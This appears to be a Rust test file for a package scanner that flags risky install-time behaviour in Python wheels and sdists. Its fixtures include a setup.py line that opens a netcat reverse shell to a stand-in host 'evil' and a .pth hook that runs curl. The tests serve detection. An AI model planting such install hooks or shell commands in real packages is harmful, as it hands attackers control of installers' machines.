//! The install-time rules on small synthetic packages: a positive and a
//! negative case each, and the metadata they rely on.

use std::io::Write;

use sha2::Digest;

use airlock_inspect::{inspect_archive, DistKind, Limits, Report, Severity};

/// A wheel of `entries` with a correct `demo-1.0.dist-info/RECORD` appended.
fn wheel(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut record = String::new();
    for (name, content) in entries {
        record.push_str(&format!("{name},sha256={},{}\n", b64(&sha2::Sha256::digest(content)), content.len()));
    }
    record.push_str("demo-1.0.dist-info/RECORD,,\n");
    let mut all: Vec<(&str, &[u8])> = entries.to_vec();
    all.push(("demo-1.0.dist-info/RECORD", record.as_bytes()));
    raw_zip(&all)
}

fn raw_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in entries {
        zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn b64(bytes: &[u8]) -> String {
    // The base64 crate, not a copy of the encoder under test.
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

fn sdist(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (path, content) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(content.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        tar.append_data(&mut h, path, *content).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

const METADATA: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo\nAuthor: Ann\nRequires-Dist: six\n";

/// The findings of `rule`, one per place (grouped findings are split).
fn findings_of(report: &Report, rule: &str) -> Vec<airlock_inspect::Finding> {
    report.findings.iter().filter(|f| f.rule == rule).flat_map(|f| f.each_place()).collect()
}

#[test]
fn a_plain_setup_py_is_medium_and_a_process_it_starts_is_high_at_its_line() {
    let plain = sdist(&[("demo-1.0/PKG-INFO", METADATA), ("demo-1.0/setup.py", b"from setuptools import setup\nsetup(name='demo')\n")]);
    let report = inspect_archive("demo-1.0.tar.gz", &plain, &Limits::default());
    let f = findings_of(&report, "install-hook/setup-py");
    assert_eq!((f.len(), f[0].severity, f[0].line), (1, Severity::Medium, None));
    assert_eq!(report.kind, DistKind::Sdist);
    assert_eq!(report.metadata.as_ref().unwrap().requires_dist, ["six"]);

    let active = sdist(&[
        ("demo-1.0/PKG-INFO", METADATA),
        ("demo-1.0/setup.py", b"from setuptools import setup\n# subprocess.call(['x']) in a comment is not a call\nimport subprocess\nsubprocess.call(['nc', '-e', '/bin/sh', 'evil'])\nsetup()\n"),
    ]);
    let report = inspect_archive("demo-1.0.tar.gz", &active, &Limits::default());
    let f = findings_of(&report, "access/process-on-install");
    assert_eq!(f.len(), 1, "{:?}", report.findings);
    assert_eq!((f[0].severity, f[0].line), (Severity::High, Some(4)));
    assert_eq!(f[0].snippet.as_deref(), Some("subprocess.call(['nc', '-e', '/bin/sh', 'evil'])"));
}

#[test]
fn an_sdist_without_setup_py_has_no_setup_finding() {
    let report = inspect_archive("demo-1.0.tar.gz", &sdist(&[("demo-1.0/PKG-INFO", METADATA), ("demo-1.0/pyproject.toml", b"")]), &Limits::default());
    assert!(findings_of(&report, "install-hook/setup-py").is_empty());
    assert_eq!(report.max_severity, Severity::None);
}

#[test]
fn pth_files_with_imports_are_high_and_path_only_ones_medium() {
    let w = wheel(&[
        ("demo-1.0.dist-info/METADATA", METADATA),
        ("paths.pth", b"some/dir\n"),
        ("hook.pth", b"# comment\nimport os; os.system('curl x')\n"),
        ("benign.pth", b"import sys; sys.path.insert(0, 'x')\n"),
    ]);
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &w, &Limits::default());
    let f = findings_of(&report, "install-hook/pth-file");
    let hook = f.iter().find(|f| f.file.as_deref() == Some("hook.pth")).unwrap();
    let paths = f.iter().find(|f| f.file.as_deref() == Some("paths.pth")).unwrap();
    assert_eq!((hook.severity, hook.line), (Severity::High, Some(2)));
    assert_eq!(paths.severity, Severity::Medium);
    let benign = f.iter().find(|f| f.file.as_deref() == Some("benign.pth")).unwrap();
    assert_eq!((benign.severity, benign.line), (Severity::Medium, Some(1)), "an import line that only edits sys.path");
    assert_eq!(report.metadata_file.as_deref(), Some(METADATA));
}

#[test]
fn a_wheel_without_pth_or_metadata_problems_is_clean() {
    let w = wheel(&[("demo-1.0.dist-info/METADATA", METADATA), ("demo/__init__.py", b"x = 1\n")]);
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &w, &Limits::default());
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    assert_eq!(report.metadata.unwrap().name.as_deref(), Some("demo"));
}

#[test]
fn a_wheel_without_metadata_is_flagged() {
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &wheel(&[("demo/__init__.py", b"")]), &Limits::default());
    assert_eq!(findings_of(&report, "metadata/missing").len(), 1);
}

#[test]
fn a_wheel_changed_after_its_build_fails_the_record_check() {
    let good = wheel(&[("demo-1.0.dist-info/METADATA", METADATA), ("demo/__init__.py", b"x = 1\n")]);
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &good, &Limits::default());
    assert!(findings_of(&report, "metadata/record").is_empty(), "{:?}", report.findings);

    // Same RECORD, changed module.
    let record = "demo-1.0.dist-info/METADATA,,\ndemo/__init__.py,sha256=AAAA,6\ndemo-1.0.dist-info/RECORD,,\n";
    let tampered = raw_zip(&[
        ("demo-1.0.dist-info/METADATA", METADATA),
        ("demo/__init__.py", b"x = 2\n"),
        ("demo/extra.py", b"import os\n"),
        ("demo-1.0.dist-info/RECORD", record.as_bytes()),
    ]);
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &tampered, &Limits::default());
    let f = findings_of(&report, "metadata/record");
    assert!(f.iter().any(|f| f.severity == Severity::High && f.message.contains("demo/__init__.py")), "{f:?}");
    assert!(f.iter().any(|f| f.file.as_deref() == Some("demo/extra.py")), "an unlisted file is reported: {f:?}");
}

#[test]
fn metadata_naming_another_project_than_the_file_is_flagged() {
    let w = wheel(&[("demo-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: requests\nVersion: 1.0\nSummary: x\nAuthor: y\n")]);
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &w, &Limits::default());
    assert_eq!(findings_of(&report, "metadata/name-mismatch")[0].severity, Severity::High);
    let report = inspect_archive("demo-1.0.0-py3-none-any.whl", &wheel(&[("demo-1.0.dist-info/METADATA", METADATA)]), &Limits::default());
    assert!(findings_of(&report, "metadata/name-mismatch").is_empty(), "1.0 and 1.0.0 are the same version");
}

#[test]
fn native_binaries_are_low_in_platform_wheels_and_medium_elsewhere() {
    let elf = [0x7f, b'E', b'L', b'F', 2, 1, 1, 0];
    let platform = wheel(&[("demo-1.0.dist-info/METADATA", METADATA), ("demo/_speedups.so", &elf)]);
    let report = inspect_archive("demo-1.0-cp312-cp312-manylinux_2_17_x86_64.whl", &platform, &Limits::default());
    assert_eq!(findings_of(&report, "native/binary")[0].severity, Severity::Low);
    let hidden = wheel(&[("demo-1.0.dist-info/METADATA", METADATA), ("demo/data.bin", &elf)]);
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &hidden, &Limits::default());
    assert_eq!(findings_of(&report, "native/binary")[0].severity, Severity::Medium);
}
